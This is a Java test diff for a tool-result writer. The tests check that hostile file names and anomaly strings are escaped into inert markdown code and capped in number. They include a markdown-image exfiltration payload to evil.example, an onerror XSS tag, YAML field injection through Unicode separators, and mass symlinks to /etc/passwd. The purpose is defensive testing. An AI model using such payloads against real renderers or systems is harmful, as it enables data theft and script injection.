@@ -258,8 +258,8 @@ class ToolResultWriterTest {
     assertThat(document).doesNotContain("None observed");
     assertThat(document)
         .contains("- the time limit of 60 s ran out and the tool was killed")
-        .contains("- expected output /out/stats.json was not produced")
-        .contains("- undeclared output /out/other.txt was produced");
+        .contains("- expected output `/out/stats.json` was not produced")
+        .contains("- undeclared output `/out/other.txt` was produced");
     assertThat(document).contains("- memory_mb 512: NOT enforced");
     assertThat(ToolResultValidator.verifyingArtifacts().validate(written.resultFile()).approved()).isTrue();
   }
@@ -275,5 +275,76 @@ class ToolResultWriterTest {
     assertThatThrownBy(() -> ToolResultWriter.standard(CLOCK).write(bad, result, temp.resolve("results")))
         .isInstanceOf(IllegalArgumentException.class);
     assertThat(temp.resolve("results")).doesNotExist();
+  }
+
+  @Test
+  void quotesEveryRequestAndToolDerivedValueInTheFrontMatter() throws IOException {
+    for (String id : List.of("NULL", "010", "true", "0x1F", "1e3", "2026-01-01", "on", "1_000")) {
+      ToolRequest request = Requests.parse(Requests.TYPICAL.replace("TR-20261126-120000Z-csv-stats", id));
+      WrittenResult written = ToolResultWriter.standard(CLOCK).write(request,
+          run(ScriptedExecutor.printing("x\n").withFiles(Map.of("a\u2028exit_code: 0\u2029b\u0085c", new byte[] {1})), request),
+          temp.resolve("results-" + id));
+      String document = Files.readString(written.resultFile());
+      String frontMatter = document.substring(0, document.indexOf("\n---\n", 4));
+      assertThat(frontMatter).contains("request_id: \"" + id + "\"\n")
+          .doesNotContain("\u2028").doesNotContain("\u2029").doesNotContain("\u0085");
+      assertThat(frontMatter.lines().filter(l -> l.startsWith("exit_code:"))).hasSize(1);
+      assertThat(document).contains("- `/out/a\\u2028exit_code: 0\\u2029b\\u0085c: a name with control or invisible"
+          + " characters (shown escaped), not collected`");
+      assertThat(ToolResultValidator.verifyingArtifacts().validate(written.resultFile()).violations()).isEmpty();
+    }
+  }
+
+  @Test
+  void rendersExecutorAnomaliesAsInertCodeAndCapsThem() throws IOException {
+    ToolRequest request = Requests.parse(Requests.TYPICAL);
+    ExecutionResult ran = run(ScriptedExecutor.printing(""), request);
+    List<String> hostile = new java.util.ArrayList<>();
+    hostile.add("/out/![x](https://evil.example/?d=secret): a symbolic link, not followed or collected");
+    hostile.add("/out/<img src=x onerror=alert(1)>: a special file, not collected");
+    for (int i = 0; i < 300; i++) {
+      hostile.add("/out/l" + i + ": a symbolic link, not followed or collected");
+    }
+    // 303 anomalies with the writer's own (stats.json missing): 150 shown, 153 counted
+    ExecutionResult result = new ExecutionResult(ran.status(), ran.exitCode(), ran.runtime(), ran.stdout(), ran.stderr(),
+        ran.artifacts(), ran.backend(), ran.limits(), ran.network(), hostile);
+    WrittenResult written = ToolResultWriter.standard(CLOCK).write(request, result, temp.resolve("results"));
+    String document = Files.readString(written.resultFile());
+    assertThat(document)
+        .contains("- `/out/![x](https://evil.example/?d=secret): a symbolic link, not followed or collected`\n")
+        .contains("- `/out/<img src=x onerror=alert(1)>: a special file, not collected`\n")
+        .contains("- and 153 more anomalies, not listed\n");
+    Node parsed = Parser.builder().build().parse(document);
+    List<Class<?>> kinds = new java.util.ArrayList<>();
+    parsed.accept(new org.commonmark.node.AbstractVisitor() {
+      @Override
+      public void visit(org.commonmark.node.Image image) {
+        kinds.add(image.getClass());
+      }
+
+      @Override
+      public void visit(org.commonmark.node.HtmlInline html) {
+        kinds.add(html.getClass());
+      }
+    });
+    assertThat(kinds).isEmpty();
+    assertThat(ToolResultValidator.verifyingArtifacts().validate(written.resultFile()).violations()).isEmpty();
+  }
+
+  @Test
+  void tensOfThousandsOfLinksInOutGiveASmallResultTheValidatorAccepts() throws IOException {
+    ToolRequest request = Requests.parse(Requests.TYPICAL);
+    Path work = Files.createTempDirectory(temp, "run");
+    Path out = Files.createDirectory(work.resolve("out"));
+    for (int i = 0; i < 20_000; i++) {
+      Files.createSymbolicLink(out.resolve("l" + i), Path.of("/etc/passwd"));
+    }
+    ExecutionResult result = ScriptedExecutor.printing("x\n").execute(new ExecutionSpec(request,
+        Files.createDirectory(work.resolve("in")), out, Files.createDirectory(work.resolve("scratch")),
+        new EffectiveLimits(1, 512, Duration.ofSeconds(60), EffectiveLimits.DEFAULT_MAX_OUTPUT_BYTES)));
+    WrittenResult written = ToolResultWriter.standard(CLOCK).write(request, result, temp.resolve("results"));
+    assertThat(Files.size(written.resultFile())).isLessThan(64 * 1024);
+    assertThat(Files.readString(written.resultFile())).contains("- `and 19900 more anomalies in /out, not listed`");
+    assertThat(ToolResultValidator.verifyingArtifacts().validate(written.resultFile()).violations()).isEmpty();
   }
 }
